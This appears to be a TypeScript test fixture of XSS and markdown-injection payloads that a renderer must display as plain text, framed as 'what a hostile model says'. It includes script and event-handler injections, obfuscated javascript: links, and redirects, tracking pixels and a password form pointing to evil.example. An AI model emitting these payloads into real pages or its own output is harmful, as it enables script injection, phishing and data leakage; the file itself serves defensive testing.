/** Attempts that must be shown as the text that they are. */
export const ATTACKS: readonly string[] = [
  `<script>window.pwned = "script"</script>`,
  `<img src=x onerror="window.pwned='img'">`,
  `<iframe srcdoc="<script>parent.pwned='iframe'</script>"></iframe>`,
  `<style>body { display: none }</style>`,
  `<svg onload="window.pwned='svg'"><a href="javascript:1">x</a></svg>`,
  `<a href="javascript:window.pwned='a'">click</a>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<form action="https://evil.example/"><input name="password"></form>`,
  `<math><mtext><style><img src=x onerror="window.pwned='math'"></style></mtext></math>`,
];

/** What a hostile model says: each line is an attempt to run something, or to have something fetched. */
export const HOSTILE = `# An attack

${ATTACKS.join("\n\n")}

<!-- a comment <script>window.pwned = "comment"</script> --> behind it

Inline <b onclick="window.pwned='b'">bold</b> and <script>window.pwned="inline"</script>.

[script](javascript:window.pwned='link') [case](JaVaScRiPt:window.pwned='case') [tab](java&#9;script:window.pwned='tab')
[vb](vbscript:msgbox) [data](data:text/html,<script>parent.pwned='data'</script>) [blob](blob:https://evil.example/1)
[file](file:///etc/passwd) [entity](&#106;avascript:window.pwned='entity') [angle](<javascript:window.pwned='angle'>)
[honest](https://example.org/) [mail](mailto:a@example.org) [own](docs "a title' onmouseover='window.pwned=1")
<javascript:window.pwned='auto'> <https://example.org/auto> https://example.org/bare

![pixel](https://evil.example/pixel.png) ![scheme](//evil.example/pixel.png) ![data](data:image/svg+xml,<svg/onload=alert(1)>)
![reference][1] [referenced link][2] [![nested](https://evil.example/n.png)](javascript:window.pwned='nested')

[1]: https://evil.example/reference.png
[2]: javascript:window.pwned='reference'

| table | cell |
|---|---|
| <img src=x onerror="window.pwned='cell'"> | [x](javascript:window.pwned='cell') |

\`\`\`html"><script>window.pwned='fence'</script>
</code></pre><script>window.pwned = "code"</script>
\`\`\`

- [ ] <input onfocus="window.pwned='input'" autofocus>

$$\\href{javascript:window.pwned='math'}{x}$$ [^1]

[^1]: <script>window.pwned = "footnote"</script> [x](javascript:window.pwned='footnote')

This is the end of the attack.
`;
